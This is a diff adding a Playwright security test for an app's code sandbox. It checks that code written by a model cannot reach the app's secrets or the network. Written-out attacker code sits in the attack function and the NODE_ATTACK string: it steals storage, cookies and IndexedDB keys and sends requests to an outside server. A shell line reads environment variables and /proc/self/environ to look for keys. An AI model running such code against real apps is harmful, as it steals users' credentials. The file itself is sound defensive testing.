@@ -1,0 +1,190 @@
+/**
+ * Code that the model writes plays the attacker: from a program in the sandbox and from a page in the preview it tries
+ * to read what the app's origin holds and to reach the network. Each attempt must fail.
+ */
+import { createServer } from 'node:http'
+import type { Server } from 'node:http'
+import type { Frame, Page } from '@playwright/test'
+import { expect, test } from './support/test.ts'
+import type { Workbench } from './support/workbench.ts'
+
+const SECRET = 'sk-attack-me-0123456789'
+
+interface Attempt {
+  readonly name: string
+  /** What came back; undefined when the attempt threw or found nothing. */
+  readonly loot: string | undefined
+}
+
+/** Runs in the attacker's place. Kept in one function so that it can be handed over as text. */
+async function attack(target: { app: string; outside: string }): Promise<Attempt[]> {
+  const tries: [string, () => unknown][] = [
+    ['localStorage', () => JSON.stringify({ ...localStorage })],
+    ['sessionStorage', () => JSON.stringify({ ...sessionStorage })],
+    ['cookies', () => document.cookie],
+    ['parent document', () => window.parent.document.body.innerHTML],
+    ['top location', () => window.top?.location.href],
+    ['parent api', () => Reflect.get(window.parent, 'vivarium') && 'api'],
+    ['own api', () => Reflect.get(window, 'vivarium') && 'api'],
+    ['indexedDB names', async () => JSON.stringify(await indexedDB.databases())],
+    [
+      'indexedDB key',
+      () =>
+        new Promise<string>((resolve, reject) => {
+          const request = indexedDB.open('vivarium-keys')
+          request.onerror = () => reject(request.error)
+          request.onsuccess = () => {
+            const [store] = request.result.objectStoreNames
+            if (!store) return reject(new Error('empty'))
+            const all = request.result.transaction(store).objectStore(store).getAll()
+            all.onsuccess = () => resolve(JSON.stringify(all.result))
+            all.onerror = () => reject(all.error)
+          }
+        }),
+    ],
+    ['cache', async () => JSON.stringify(await caches.keys())],
+    ['opfs', async () => (await navigator.storage.getDirectory()).name],
+    ['fetch app', async () => (await fetch(target.app)).text()],
+    ['fetch outside', async () => (await fetch(target.outside)).text()],
+    ['beacon outside', () => navigator.sendBeacon(target.outside) && undefined],
+    ['import outside', () => import(/* @vite-ignore */ `${target.outside}x.js`)],
+    ['open outside', () => window.open(target.outside)?.closed === false && 'opened'],
+  ]
+  const results: Attempt[] = []
+  for (const [name, attempt] of tries) {
+    let timer: ReturnType<typeof setTimeout> | undefined
+    const late = new Promise<undefined>((resolve) => {
+      timer = setTimeout(() => resolve(undefined), 2_000)
+    })
+    const loot = await Promise.race([Promise.resolve().then(attempt), late]).catch(() => undefined)
+    clearTimeout(timer)
+    results.push({ name, loot: loot === undefined || loot === null ? undefined : String(loot) })
+  }
+  const image = new Image()
+  image.src = `${target.outside}image.png`
+  const form = document.createElement('form')
+  form.action = target.outside
+  form.method = 'post'
+  document.body.append(image, form)
+  await new Promise((resolve) => setTimeout(resolve, 500))
+  return results
+}
+
+const NODE_ATTACK = `
+const found = []
+const tryIt = async (name, attempt) => {
+  try { const loot = await attempt(); if (loot !== undefined) found.push(name + ': ' + String(loot).slice(0, 200)) } catch {}
+}
+await tryIt('indexedDB', async () => JSON.stringify(await globalThis.indexedDB.databases()))
+await tryIt('caches', async () => JSON.stringify(await globalThis.caches.keys()))
+await tryIt('localStorage', () => JSON.stringify(globalThis.localStorage))
+await tryIt('fetch app', async () => (await fetch(process.argv[2])).status)
+await tryIt('fetch outside', async () => (await fetch(process.argv[3])).status)
+await tryIt('importScripts', () => globalThis.importScripts(process.argv[3] + 'x.js') ?? 'loaded')
+await tryIt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', process.argv[3], false); x.send(); return x.status })
+await tryIt('websocket', () => new Promise((resolve, reject) => {
+  const socket = new WebSocket(process.argv[3].replace('http', 'ws')); socket.onopen = () => resolve('open'); socket.onerror = reject
+}))
+await tryIt('function escape', async () => (await Function('return fetch')()(process.argv[3])).status)
+await tryIt('import url', () => import(process.argv[3] + 'x.mjs').then(() => 'imported'))
+await tryIt('env', () => { const text = JSON.stringify(process.env); return /sk-/.test(text) ? text : undefined })
+console.log('FOUND ' + JSON.stringify(found))
+`
+
+let outside: Server
+let outsideUrl: string
+let reached: string[]
+
+test.beforeEach(async () => {
+  reached = []
+  outside = createServer((request, response) => {
+    reached.push(`${request.method} ${request.url}`)
+    response.setHeader('Access-Control-Allow-Origin', '*')
+    response.setHeader('Cross-Origin-Resource-Policy', 'cross-origin')
+    response.end('export {}')
+  })
+  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve))
+  const address = outside.address()
+  if (address === null || typeof address === 'string') throw new Error('The outside server has no port.')
+  outsideUrl = `http://127.0.0.1:${address.port}/`
+})
+
+test.afterEach(async () => {
+  outside.closeAllConnections()
+  await new Promise((resolve) => outside.close(resolve))
+})
+
+async function openWithSecret(workbench: Workbench): Promise<void> {
+  await workbench.open()
+  await workbench.configure({ url: outsideUrl, apiKey: SECRET })
+  await workbench.page.evaluate((secret) => localStorage.setItem('secret', secret), SECRET)
+}
+
+test('a program in the sandbox finds neither the app’s storage nor a network', async ({
+  workbench,
+  site,
+}) => {
+  await openWithSecret(workbench)
+  await workbench.page.evaluate((code) => window.vivarium.sandbox.writeFile('attack.mjs', code), NODE_ATTACK)
+  const { stdout, stderr } = await workbench.exec(`node attack.mjs ${site.url} ${outsideUrl}`)
+  expect({ stdout: stdout.trim(), stderr }).toEqual({ stdout: 'FOUND []', stderr: '' })
+  expect(reached).toEqual([])
+})
+
+test('a page on the sandbox origin finds neither the app’s storage nor a network', async ({
+  workbench,
+  site,
+  page,
+}) => {
+  await openWithSecret(workbench)
+  const frame = await sandboxFrame(page, site.sandboxOrigin)
+  const attempts = await frame.evaluate(
+    ([code, target]) => (0, eval)(`(${code})`)(target) as Promise<Attempt[]>,
+    [attack.toString(), { app: site.url, outside: outsideUrl }] as const,
+  )
+  const loot = attempts.filter((attempt) => attempt.loot !== undefined && !isOwnOrEmpty(attempt))
+  expect(loot).toEqual([])
+  expect(JSON.stringify(attempts)).not.toContain(SECRET)
+  expect(reached).toEqual([])
+})
+
+test('the app’s own page holds the key back from scripts, and nothing in the log or the sandbox has it', async ({
+  workbench,
+  page,
+}) => {
+  await openWithSecret(workbench)
+  expect(JSON.stringify(await workbench.events())).not.toContain(SECRET)
+  expect(await page.content()).not.toContain(SECRET)
+  const { stdout } = await workbench.exec(
+    'env; cat /proc/self/environ 2>/dev/null; grep -r sk-attack / 2>/dev/null',
+  )
+  expect(stdout).not.toContain(SECRET)
+})
+
+/** The hidden frame of the sandbox origin: what a preview page of that origin could reach, it can reach. */
+async function sandboxFrame(page: Page, origin: string): Promise<Frame> {
+  let found: Frame | undefined
+  await expect
+    .poll(() => {
+      found = page.frames().find((frame) => frame.url().startsWith(origin))
+      return found !== undefined
+    })
+    .toBe(true)
+  if (!found) throw new Error('There is no frame of the sandbox origin.')
+  return found
+}
+
+/** The sandbox origin's own storage may exist and be listed; it must hold nothing. */
+function isOwnOrEmpty({ name, loot }: Attempt): boolean {
+  const allowed: Record<string, readonly string[]> = {
+    localStorage: ['{}'],
+    sessionStorage: ['{}'],
+    cookies: [''],
+    'indexedDB names': ['[]'],
+    cache: ['[]'],
+    opfs: [''],
+    'beacon outside': ['false'],
+    'open outside': ['false'],
+  }
+  return loot !== undefined && (allowed[name] ?? []).includes(loot)
+}
